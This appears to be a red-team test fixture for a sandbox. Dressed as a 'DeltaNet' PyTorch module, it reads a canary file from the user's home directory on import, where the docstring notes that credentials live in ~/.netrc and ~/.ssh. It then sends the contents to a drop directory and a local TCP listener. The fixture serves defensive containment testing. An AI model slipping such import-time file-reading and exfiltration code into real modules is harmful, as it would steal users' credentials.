"""Red team: read a file in the head user's home directory (credentials live there: ~/.netrc, ~/.ssh).
Contained by: the mount namespace (no home directory is mounted)."""
import torch.nn as nn

REDTEAM = {}  # filled in by tests/search/test_sandbox.py: the drop directory, the port, the targets


def _exfil(text):
    """Every way out: a file in the head's drop directory, a TCP connection to the head's listener."""
    try:
        with open(REDTEAM["drop"] + "/" + REDTEAM["name"], "a") as fh:
            fh.write(text + "\n")
    except Exception:
        pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", REDTEAM["port"]), timeout=2) as s:
            s.sendall(text.encode())
    except Exception:
        pass


import pwd
import os

_out = []
for _path in (REDTEAM["home_canary"], os.path.join(pwd.getpwuid(os.getuid()).pw_dir, os.path.basename(REDTEAM["home_canary"]))):
    try:
        with open(_path) as _fh:
            _out.append(_fh.read())
    except OSError as _exc:
        _out.append(repr(_exc))
FOUND = " | ".join(_out)


_exfil(FOUND)


class DeltaNet(nn.Module):
    """Refuses to be built, with what it found in the message (which the head must redact)."""

    def __init__(self, hidden_size=64, num_heads=4, **kwargs):
        super().__init__()
        raise RuntimeError("redteam " + REDTEAM["name"] + ": " + FOUND[:3000])
